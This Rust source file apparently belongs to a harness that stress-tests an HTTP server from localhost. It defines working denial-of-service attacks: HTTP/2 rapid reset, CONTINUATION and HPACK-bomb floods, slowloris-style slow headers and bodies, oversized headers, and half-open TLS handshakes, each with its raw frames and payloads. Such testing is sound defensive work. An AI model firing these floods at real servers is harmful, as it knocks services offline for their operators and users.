//! The attacks: what one connection of the attacker does, and how many of them there are.

use std::{
    sync::{
        Arc, Mutex,
        atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering::Relaxed},
    },
    time::Duration,
};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    time::Instant,
};

use super::{
    BoxError,
    besides::{Besides, TOKEN},
    good::Target,
};

/// Where the attacker comes from.
const FROM: [u8; 4] = [127, 0, 0, 1];
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// What a connection is made over.
#[derive(Clone, Copy, PartialEq)]
pub(crate) enum Over {
    Plain,
    Tls,
    Proxy,
}

/// What a connection of the attacker sends.
#[derive(Clone, Copy)]
pub(crate) enum Play {
    /// HTTP/2 after the preface: a batch of frames again and again; `Batch` makes the nth.
    Frames(fn(u32) -> Vec<u8>),
    /// Bytes, then a piece every so often.
    Drip(fn() -> Vec<u8>, fn() -> Vec<u8>, Duration),
    /// Bytes, whose answer is not read.
    Deaf(fn() -> Vec<u8>),
    /// Bytes, whose answer is read until the end.
    Ask(fn() -> Vec<u8>),
    /// TCP and nothing else, or the beginning of a handshake.
    Raw(&'static [u8]),
    /// A whole handshake, then the end.
    Handshake,
}

pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) over: Over,
    pub(crate) besides: Besides,
    pub(crate) connections: usize,
    /// Between two batches.
    pub(crate) pause: Duration,
    pub(crate) play: Play,
}

/// What the attacker saw.
#[derive(Default)]
pub(crate) struct Seen {
    pub(crate) sent: AtomicU64,
    pub(crate) opened: AtomicU64,
    pub(crate) held: AtomicUsize,
    pub(crate) most_held: AtomicUsize,
    pub(crate) closed_after: Mutex<Vec<Duration>>,
}

const MS: Duration = Duration::from_millis(1);

pub(crate) fn all() -> Vec<Attack> {
    let over = |name, over, connections, pause, play| Attack {
        name,
        over,
        besides: Besides::Nothing,
        connections,
        pause,
        play,
    };
    let besides = |name, besides, head| Attack { besides, ..over(name, Over::Plain, 64, 10 * MS, Play::Ask(head)) };
    let h2 = |name, batch| over(name, Over::Plain, 4, 5 * MS, Play::Frames(batch));
    vec![
        h2("rapid reset", |n| rounds(n, |stream| [get(stream, true), frame(3, 0, stream, &[0, 0, 0, 8])].concat())),
        h2("resets made by us", |n| rounds(n, |stream| [get(stream, false), frame(8, 0, stream, &[0; 4])].concat())),
        h2("CONTINUATION flood", |n| {
            let first = if n == 0 { frame(1, 0, 1, &[0x82]) } else { Vec::new() };
            [first, frame(9, 0, 1, &[0x82; 64]).repeat(100)].concat()
        }),
        h2("HPACK bomb", |n| {
            // One large field into the table, then references to it.
            let field = [&[0x40, 1, b'x', 0x7f, 0x81, 0x1e][..], &[b'y'; 4000]].concat();
            rounds(n, |stream| frame(1, 5, stream, &[&[0x82, 0x86, 0x84][..], &field, &[0xbe; 4000]].concat()))
        }),
        h2("SETTINGS flood", |_| frame(4, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]).repeat(100)),
        h2("PING flood", |_| frame(6, 0, 0, &[7; 8]).repeat(100)),
        h2("PRIORITY flood", |_| frame(2, 0, 1, &[0, 0, 0, 0, 16]).repeat(100)),
        h2("WINDOW_UPDATE flood", |_| frame(8, 0, 0, &[0, 0, 0, 1]).repeat(100)),
        h2("unknown frames", |_| frame(0x42, 0, 0, &[0; 16]).repeat(100)),
        h2("empty DATA", |n| [open(n), frame(0, 0, 1, &[]).repeat(100)].concat()),
        h2("small DATA", |n| [open(n), frame(0, 0, 1, &[1]).repeat(100)].concat()),
        over(
            "small chunks",
            Over::Plain,
            4,
            MS,
            Play::Drip(
                || b"POST /echo HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\n".to_vec(),
                || b"1\r\nx\r\n".repeat(100),
                5 * MS,
            ),
        ),
        over(
            "window 0",
            Over::Plain,
            64,
            500 * MS,
            Play::Frames(|n| {
                let settings = if n == 0 { frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]) } else { Vec::new() };
                let streams = if n == 0 { 100 } else { 0 };
                [settings, (0..streams).flat_map(|stream| get(2 * stream + 1, true)).collect()].concat()
            }),
        ),
        over(
            "slow head",
            Over::Plain,
            512,
            MS,
            Play::Drip(|| b"GET / HTTP/1.1\r\nx: ".to_vec(), || b"y".to_vec(), 500 * MS),
        ),
        over(
            "slow body",
            Over::Plain,
            512,
            MS,
            Play::Drip(
                || b"POST /echo HTTP/1.1\r\nhost: a\r\ncontent-length: 1000000\r\n\r\n".to_vec(),
                || b"z".to_vec(),
                500 * MS,
            ),
        ),
        over("slow read", Over::Plain, 64, MS, Play::Deaf(|| b"GET /large HTTP/1.1\r\nhost: a\r\n\r\n".to_vec())),
        over(
            "large head",
            Over::Plain,
            64,
            10 * MS,
            Play::Ask(|| format!("GET / HTTP/1.1\r\nhost: a\r\nx: {}\r\n\r\n", "y".repeat(64 * 1024)).into_bytes()),
        ),
        over(
            "1,000 X-Forwarded-For",
            Over::Plain,
            64,
            10 * MS,
            Play::Ask(|| {
                format!("GET / HTTP/1.1\r\nhost: a\r\n{}\r\n", "x-forwarded-for: 192.0.2.1\r\n".repeat(1_000))
                    .into_bytes()
            }),
        ),
        over(
            "token of 1 MB",
            Over::Plain,
            64,
            10 * MS,
            Play::Ask(|| {
                format!("GET / HTTP/1.1\r\nhost: a\r\nauthorization: Bearer {}\r\n\r\n", "e".repeat(1 << 20))
                    .into_bytes()
            }),
        ),
        besides("keys that drip", Besides::Issuer, || {
            format!("GET / HTTP/1.1\r\nhost: a\r\nauthorization: Bearer {TOKEN}\r\n\r\n").into_bytes()
        }),
        besides("rules without end", Besides::Rules, || b"GET / HTTP/1.1\r\nhost: a\r\n\r\n".to_vec()),
        over("silence", Over::Plain, 1_000, MS, Play::Raw(b"")),
        over("half a preface", Over::Plain, 1_000, MS, Play::Raw(b"PRI * HTTP/2.0")),
        over("half-open handshakes", Over::Tls, 10_000, MS, Play::Raw(&[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3])),
        over("slow TLS", Over::Tls, 512, MS, Play::Drip(|| vec![0x16, 3, 1, 2, 0, 1], || vec![0], 200 * MS)),
        over("full handshakes", Over::Tls, 32, MS, Play::Handshake),
        over("idle hoarding", Over::Tls, 1_000, MS, Play::Deaf(|| [PREFACE, &frame(4, 0, 0, &[])].concat())),
        over("PROXY drip", Over::Proxy, 512, MS, Play::Drip(|| b"PROXY ".to_vec(), || b"U".to_vec(), 100 * MS)),
    ]
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// HEADERS of `GET http://a/`.
fn get(stream: u32, ends: bool) -> Vec<u8> {
    frame(1, 4 | u8::from(ends), stream, &[0x82, 0x86, 0x84, 0x01, 1, b'a'])
}

/// The first batch opens stream 1, a POST whose body follows.
fn open(n: u32) -> Vec<u8> {
    if n == 0 {
        frame(1, 4, 1, &[0x83, 0x86, 0x04, 5, b'/', b'e', b'c', b'h', b'o', 0x01, 1, b'a'])
    } else {
        Vec::new()
    }
}

/// Ten streams of the nth batch.
fn rounds(n: u32, make: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..10).flat_map(|k| make((n * 10 + k) * 2 + 1)).collect()
}

impl Attack {
    /// Holds all connections, and opens another for each that is closed, until told to stop.
    pub(crate) async fn run(&self, target: &Target, stop: &Arc<AtomicBool>, seen: &Arc<Seen>) {
        let mut all = tokio::task::JoinSet::new();
        // At most ten thousand connections a second, however fast they are refused: more measures the system below.
        let again = (20 * MS).max(self.connections as u32 * MS / 10);
        for _ in 0..self.connections {
            let (target, stop, seen) = (target.clone(), Arc::clone(stop), Arc::clone(seen));
            let (play, pause) = (self.play, self.pause);
            all.spawn(async move {
                while !stop.load(Relaxed) {
                    let began = Instant::now();
                    let played = play_once(play, pause, &target, &stop, &seen).await;
                    if !stop.load(Relaxed) && played.is_ok() {
                        seen.closed_after.lock().unwrap().push(began.elapsed());
                    }
                    tokio::time::sleep(again).await;
                }
            });
        }
        all.join_all().await;
    }
}

/// One connection, until it is closed or all stops.
async fn play_once(
    play: Play,
    pause: Duration,
    target: &Target,
    stop: &AtomicBool,
    seen: &Seen,
) -> Result<(), BoxError> {
    let patience = Duration::from_secs(5);
    let whole = matches!(play, Play::Frames(_) | Play::Handshake)
        || matches!(play, Play::Deaf(_)) && target.tls.is_some()
        || matches!(play, Play::Ask(_));
    let io = async {
        Ok::<_, BoxError>(if whole { target.connect(FROM, b"h2").await? } else { Box::new(target.tcp(FROM).await?) })
    };
    let mut io = tokio::time::timeout(patience, io).await??;
    seen.opened.fetch_add(1, Relaxed);
    let held = Held::new(seen);
    let (mut read, mut write) = tokio::io::split(&mut *io);
    let sent = |bytes: usize| {
        seen.sent.fetch_add(bytes as u64, Relaxed);
    };
    let stopped = async {
        while !stop.load(Relaxed) {
            tokio::time::sleep(50 * MS).await;
        }
    };
    let reads = async {
        let mut buffer = [0; 4096];
        while !matches!(read.read(&mut buffer).await, Ok(0) | Err(_)) {}
    };
    let writes = async {
        match play {
            Play::Frames(batch) => {
                write.write_all(&[PREFACE, &frame(4, 0, 0, &[])].concat()).await?;
                for n in 0.. {
                    let bytes = batch(n);
                    write.write_all(&bytes).await?;
                    sent(bytes.len());
                    tokio::time::sleep(pause).await;
                }
            }
            Play::Drip(first, piece, every) => {
                write.write_all(&first()).await?;
                loop {
                    tokio::time::sleep(every).await;
                    let piece = piece();
                    write.write_all(&piece).await?;
                    sent(piece.len());
                }
            }
            Play::Deaf(first) | Play::Ask(first) => {
                let first = first();
                sent(first.len());
                write.write_all(&first).await?;
            }
            Play::Raw(first) => {
                sent(first.len());
                write.write_all(first).await?;
            }
            Play::Handshake => sent(1_500),
        }
        Ok::<_, std::io::Error>(())
    };
    // Whoever does not read learns of the end by looking now and then whether it can write.
    let deaf = matches!(play, Play::Deaf(_)) && target.tls.is_none();
    tokio::select! {
        () = stopped => {}
        () = async {
            let wrote = writes.await;
            if matches!(play, Play::Handshake) || wrote.is_err() {
                return;
            }
            std::future::pending().await
        } => {}
        () = reads, if !deaf => {}
        () = tokio::time::sleep(Duration::from_secs(90)) => {}
    }
    drop(held);
    Ok(())
}

struct Held<'a>(&'a Seen);

impl<'a> Held<'a> {
    fn new(seen: &'a Seen) -> Self {
        let now = seen.held.fetch_add(1, Relaxed) + 1;
        seen.most_held.fetch_max(now, Relaxed);
        Self(seen)
    }
}

impl Drop for Held<'_> {
    fn drop(&mut self) {
        self.0.held.fetch_sub(1, Relaxed);
    }
}
